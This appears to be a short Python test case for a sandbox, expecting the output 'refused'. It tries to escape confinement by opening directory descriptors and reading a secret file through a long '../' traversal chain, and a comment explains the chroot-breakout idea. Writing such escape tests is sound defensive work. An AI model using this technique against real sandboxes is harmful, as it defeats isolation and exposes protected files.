# outcome: exit
# stdout: refused
# A descriptor of a directory outlives a change of the root: that is how one breaks out of it.
import json
import os

world = json.loads(input())
library = os.path.dirname(os.__file__)
refused = 0
for start in ("/", library, "."):
    try:
        descriptor = os.open(start, os.O_PATH | os.O_DIRECTORY)
        path = "../" * 16 + world["secret"].lstrip("/")
        print(os.read(os.open(path, os.O_RDONLY, dir_fd=descriptor), 100))
    except OSError:
        refused += 1
print("refused" if refused == 3 else "read")
